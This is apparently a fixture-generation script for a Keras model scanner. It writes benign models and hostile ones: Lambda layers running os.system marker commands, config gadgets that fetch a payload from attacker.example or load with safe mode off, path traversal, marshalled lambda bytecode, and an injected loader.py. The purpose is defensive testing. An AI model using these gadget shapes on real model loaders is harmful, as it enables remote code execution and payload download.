"""Write the Keras fixtures in tests/fixtures/keras/ (real models and hostile ones) with the real frameworks.

Needs Keras 3, TensorFlow and tf_keras (Keras 2), kept out of the project's own venv:

    python3 -m venv .venv-keras
    .venv-keras/bin/pip install tensorflow-cpu keras tf_keras h5py
    .venv-keras/bin/python scripts/make_keras_fixtures.py

The tests only read the committed files, so they never need Keras. Hostile models are only saved, never
loaded: their Lambda payload would run `touch /tmp/modelshield-marker-*`. Files the frameworks refuse to
write (a `module` of `os`, function references to non-modelling APIs, odd archive members) are the real
files edited by hand, the way an attacker would.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import shutil
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "tensorflow")
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import h5py
import keras
import tensorflow as tf
import tf_keras

ROOT = Path(__file__).resolve().parents[1]
REAL = ROOT / "tests" / "fixtures" / "keras" / "real"
HOSTILE = ROOT / "tests" / "fixtures" / "keras" / "malicious"
MARKER = "touch /tmp/modelshield-marker-"
MAX_FIXTURE = 256 * 1024

# -- Keras 3 models ---------------------------------------------------------------------------------


def k3_sequential() -> keras.Model:
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)])


def k3_functional() -> keras.Model:
    inp = keras.Input((4,), name="features")
    a = keras.layers.Dense(3, activation="tanh")(inp)
    b = keras.layers.Dense(3)(inp)
    merged = keras.layers.Concatenate()([a, b])
    out = keras.layers.Dense(1, activation="sigmoid")(keras.layers.Dropout(0.1)(merged))
    return keras.Model(inp, out)


def k3_cnn() -> keras.Model:
    return keras.Sequential(
        [
            keras.Input((8, 8, 1)),
            keras.layers.Rescaling(1 / 255),
            keras.layers.Conv2D(2, 3, padding="same", activation="relu"),
            keras.layers.BatchNormalization(),
            keras.layers.MaxPooling2D(),
            keras.layers.SeparableConv2D(2, 3, padding="same"),
            keras.layers.GlobalAveragePooling2D(),
            keras.layers.Dense(2, activation="softmax"),
        ]
    )


def k3_rnn() -> keras.Model:
    inp = keras.Input((5, 3))
    x = keras.layers.Bidirectional(keras.layers.LSTM(2, return_sequences=True))(inp)
    x = keras.layers.TimeDistributed(keras.layers.Dense(2))(x)
    x = keras.layers.RNN([keras.layers.GRUCell(2), keras.layers.SimpleRNNCell(2)])(x)
    x = keras.layers.LayerNormalization()(x)
    return keras.Model(inp, keras.layers.Dense(1)(x))


def k3_compiled() -> keras.Model:
    """Non-default initializers, regularizers, constraints, schedules, losses and metrics as objects."""
    model = keras.Sequential(
        [
            keras.Input((4,)),
            keras.layers.Dense(
                3,
                kernel_initializer=keras.initializers.HeNormal(seed=1),
                bias_initializer=keras.initializers.Constant(0.1),
                kernel_regularizer=keras.regularizers.L1L2(0.01, 0.01),
                kernel_constraint=keras.constraints.MaxNorm(2.0),
                activation=keras.activations.gelu,
            ),
            keras.layers.Embedding(10, 2, embeddings_initializer=keras.initializers.RandomNormal(seed=2)),
            keras.layers.Flatten(),
            keras.layers.Dense(1, activity_regularizer=keras.regularizers.L2(0.1)),
        ]
    )
    schedule = keras.optimizers.schedules.CosineDecay(0.01, 100, warmup_target=0.1, warmup_steps=10)
    model.compile(
        optimizer=keras.optimizers.AdamW(schedule),
        loss=keras.losses.Huber(delta=0.5),
        metrics=[keras.metrics.MeanAbsoluteError(), keras.metrics.AUC(), "mse"],
    )
    return model


def k3_lookup() -> keras.Model:
    inp = keras.Input((1,), dtype="string")
    out = keras.layers.StringLookup(vocabulary=["cat", "dog"])(inp)
    return keras.Model(inp, out)


def hostile_lambda(name: str) -> Callable[[Any], Any]:
    """Saved, never loaded or called; the command is a closure value, the marker a bytecode constant."""
    command = MARKER + name
    return lambda x: os.system(command) or os.system("touch /tmp/modelshield-marker-keras") or x


@keras.saving.register_keras_serializable(package="MyPkg")
class Scale(keras.layers.Layer):
    """A custom layer: its code is not in the saved file."""

    def call(self, inputs: Any) -> Any:
        return inputs * 2


def k3_lambda() -> keras.Model:
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(2), keras.layers.Lambda(hostile_lambda("k3"))])


def k3_nested_lambda() -> keras.Model:
    """A Lambda inside a functional model inside a Sequential (top-level-only scanners miss it)."""
    inner_in = keras.Input((2,))
    inner = keras.Model(inner_in, keras.layers.Lambda(hostile_lambda("nested"))(inner_in), name="inner")
    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(2), inner])


def k3_custom_layer() -> keras.Model:
    return keras.Sequential([keras.Input((4,)), Scale(), keras.layers.Dense(1)])


def k3_tfsm_layer(tmp: Path) -> keras.Model:
    class Module(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 2], tf.float32)])
        def serve(self, x: Any) -> Any:
            return {"y": x * 2}

    module = Module()
    path = tmp / "modelshield-external-savedmodel"
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    inp = keras.Input((2,))
    return keras.Model(inp, keras.layers.TFSMLayer(str(path), call_endpoint="serving_default")(inp))


# -- Keras 2 (tf_keras) models ----------------------------------------------------------------------


def k2_sequential() -> Any:
    model = tf_keras.Sequential(
        [tf_keras.Input((4,)), tf_keras.layers.Dense(3, activation="relu"), tf_keras.layers.Dense(1)]
    )
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    return model


def k2_functional() -> Any:
    inp = tf_keras.Input((4,))
    a = tf_keras.layers.Dense(3)(inp)
    b = tf_keras.layers.Dense(3, kernel_regularizer=tf_keras.regularizers.L2(0.1))(inp)
    out = tf_keras.layers.Dense(1)(tf_keras.layers.Add()([a, b]))
    model = tf_keras.Model(inp, out)
    model.compile(optimizer=tf_keras.optimizers.SGD(0.1, momentum=0.9), loss=tf_keras.losses.Huber())
    return model


def k2_cnn() -> Any:
    return tf_keras.Sequential(
        [
            tf_keras.Input((8, 8, 1)),
            tf_keras.layers.Conv2D(2, 3, activation="relu"),
            tf_keras.layers.MaxPooling2D(),
            tf_keras.layers.Flatten(),
            tf_keras.layers.Dense(2, activation="softmax"),
        ]
    )


def k2_rnn() -> Any:
    inp = tf_keras.Input((5, 3))
    x = tf_keras.layers.Bidirectional(tf_keras.layers.GRU(2, return_sequences=True))(inp)
    x = tf_keras.layers.TimeDistributed(tf_keras.layers.Dense(2))(x)
    return tf_keras.Model(inp, tf_keras.layers.LSTM(2)(x))


def k2_tf_op() -> Any:
    """A benign TFOpLambda (`tf.strings.length` on a symbolic input)."""
    inp = tf_keras.Input((), dtype="string")
    return tf_keras.Model(inp, tf.strings.length(inp))


def k2_lambda() -> Any:
    return tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Lambda(hostile_lambda("k2"))])


def k2_lookup_file(tmp: Path) -> Any:
    vocab = tmp / "vocab.txt"
    vocab.write_text("cat\ndog\n")
    inp = tf_keras.Input((1,), dtype="string")
    return tf_keras.Model(inp, tf_keras.layers.StringLookup(vocabulary=str(vocab))(inp))


class K2Scale(tf_keras.layers.Layer):
    def call(self, inputs: Any) -> Any:
        return inputs * 2


def k2_custom_layer() -> Any:
    return tf_keras.Sequential([tf_keras.Input((4,)), K2Scale(), tf_keras.layers.Dense(1)])


# -- hand edits of real files -----------------------------------------------------------------------


def read_zip(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def edit_keras(
    source: Path, target: Path, edit: Callable[[dict[str, Any]], None], extra: dict[str, bytes] | None = None
) -> None:
    members = read_zip(source)
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    members.update(extra or {})
    write_zip(target, members)


def edit_h5(source: Path, target: Path, attribute: str, edit: Callable[[dict[str, Any]], None]) -> None:
    shutil.copyfile(source, target)
    with h5py.File(target, "r+") as handle:
        config = json.loads(handle.attrs[attribute])
        edit(config)
        handle.attrs[attribute] = json.dumps(config)


def layers(config: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = config["config"]["layers"]
    return found


def function_ref(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def as_lambda_layer(target: dict[str, Any], function: Any, arguments: dict[str, Any]) -> None:
    """Turn a real layer entry into a Lambda calling `function` (the JFrog-style gadget shape)."""
    target.update(class_name="Lambda", module="keras.layers", registered_name=None)
    target["config"] = {"name": target["config"]["name"], "function": function, "arguments": arguments}


def lambda_object() -> dict[str, Any]:
    code = hostile_lambda("generic").__code__
    return {
        "class_name": "__lambda__",
        "config": {"value": [base64.b64encode(marshal.dumps(code)).decode(), None, None]},
    }


def hand_built(tmp: Path) -> None:
    base = REAL / "k3_sequential.keras"

    def module_os(config: dict[str, Any]) -> None:
        layers(config)[1].update(module="os", class_name="system", registered_name="system")

    def get_file(config: dict[str, Any]) -> None:
        as_lambda_layer(
            layers(config)[1],
            function_ref("keras.utils", "get_file"),
            {"fname": "x", "origin": "https://attacker.example/payload.tar.gz", "extract": True},
        )

    def load_model(config: dict[str, Any]) -> None:
        as_lambda_layer(
            layers(config)[1],
            function_ref("keras.saving", "load_model"),
            {"filepath": "/tmp/evil.keras", "safe_mode": False},
        )

    def unsafe(config: dict[str, Any]) -> None:
        as_lambda_layer(layers(config)[1], function_ref("keras.config", "enable_unsafe_deserialization"), {})

    def traversal(config: dict[str, Any]) -> None:
        layers(config)[1]["config"]["name"] = "../../../../tmp/modelshield-traversal"

    def nested_lambdas(config: dict[str, Any]) -> None:
        dense = layers(config)[1]["config"]
        dense["kernel_initializer"] = lambda_object()
        config["compile_config"] = {"optimizer": "adam", "loss": lambda_object(), "metrics": None}

    def vocabulary(config: dict[str, Any]) -> None:
        layers(config)[1]["config"]["vocabulary"] = "https://attacker.example/vocab.txt"

    def tfsm_url(config: dict[str, Any]) -> None:
        for layer in layers(config):
            if layer["class_name"] == "TFSMLayer":
                layer["config"]["filepath"] = "gs://attacker-bucket/model"

    edit_keras(base, HOSTILE / "module_os_system.keras", module_os)
    edit_keras(base, HOSTILE / "get_file_gadget.keras", get_file)
    edit_keras(base, HOSTILE / "load_model_gadget.keras", load_model)
    edit_keras(base, HOSTILE / "enable_unsafe_deserialization.keras", unsafe)
    edit_keras(base, HOSTILE / "layer_name_traversal.keras", traversal)
    edit_keras(base, HOSTILE / "lambda_in_initializer_and_loss.keras", nested_lambdas)
    edit_keras(REAL / "k3_lookup.keras", HOSTILE / "lookup_vocabulary_url.keras", vocabulary)
    edit_keras(HOSTILE / "tfsm_layer.keras", HOSTILE / "tfsm_layer_remote.keras", tfsm_url)
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as archive:
        archive.writestr("inner.txt", "nested")
    edit_keras(
        base,
        HOSTILE / "unexpected_members.keras",
        lambda config: None,
        {
            "loader.py": b"import os\nos.system('touch /tmp/modelshield-marker-loader')\n",
            "extra/state.pkl": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.",
            "bundle.zip": nested.getvalue(),
        },
    )

    def tf_read_file(config: dict[str, Any]) -> None:
        layer = layers(config)[1]
        layer["config"]["function"] = "io.read_file"
        layer["config"]["name"] = layer["name"] = "tf.io.read_file"
        config["config"]["output_layers"] = [["tf.io.read_file", 0, 0]]

    def k2_function_module(config: dict[str, Any]) -> None:
        layer = layers(config)[1]["config"]
        layer.update(function="system", function_type="function", module="os")

    edit_h5(REAL / "k2_tf_op.h5", HOSTILE / "k2_tf_op_read_file.h5", "model_config", tf_read_file)
    edit_h5(HOSTILE / "k2_lambda.h5", HOSTILE / "k2_lambda_function_module.h5", "model_config", k2_function_module)


# -- driver -----------------------------------------------------------------------------------------


def save(model: Any, path: Path) -> None:
    model.save(str(path))
    print(f"{path.relative_to(ROOT)}: {path.stat().st_size} bytes")


def keep_metadata(model: Any, tmp: Path, target: Path) -> None:
    """Save a Keras 2 SavedModel and keep only its keras_metadata.pb (the graph is another analyser's)."""
    folder = tmp / target.stem
    model.save(str(folder), save_format="tf")
    shutil.copyfile(folder / "keras_metadata.pb", target)
    print(f"{target.relative_to(ROOT)}: {target.stat().st_size} bytes")


def main() -> None:
    for folder in (REAL, HOSTILE):
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
    with tempfile.TemporaryDirectory(prefix="modelshield-keras-") as name:
        tmp = Path(name)
        for make in (k3_sequential, k3_functional, k3_cnn, k3_rnn, k3_compiled):
            model = make()
            stem = make.__name__
            save(model, REAL / f"{stem}.keras")
            save(model, REAL / f"{stem}.h5")
        save(k3_lookup(), REAL / "k3_lookup.keras")
        k3_sequential().save_weights(str(REAL / "k3_sequential.weights.h5"))
        for make in (k2_sequential, k2_functional, k2_cnn, k2_rnn, k2_tf_op):
            save(make(), REAL / f"{make.__name__}.h5")
        save(k2_sequential(), REAL / "k2_sequential.keras")
        keep_metadata(k2_functional(), tmp, REAL / "k2_functional_keras_metadata.pb")

        save(k3_lambda(), HOSTILE / "k3_lambda.keras")
        save(k3_lambda(), HOSTILE / "k3_lambda.h5")
        save(k3_nested_lambda(), HOSTILE / "k3_nested_lambda.keras")
        save(k3_custom_layer(), HOSTILE / "k3_custom_layer.keras")
        save(k3_tfsm_layer(tmp), HOSTILE / "tfsm_layer.keras")
        save(k2_lambda(), HOSTILE / "k2_lambda.h5")
        save(k2_custom_layer(), HOSTILE / "k2_custom_layer.h5")
        save(k2_lookup_file(tmp), HOSTILE / "k2_lookup_vocabulary_file.h5")
        keep_metadata(k2_lambda(), tmp, HOSTILE / "k2_lambda_keras_metadata.pb")
        hand_built(tmp)
    too_big = [p for folder in (REAL, HOSTILE) for p in folder.iterdir() if p.stat().st_size > MAX_FIXTURE]
    if too_big:
        sys.exit(f"fixtures over {MAX_FIXTURE} bytes: {too_big}")


if __name__ == "__main__":
    main()
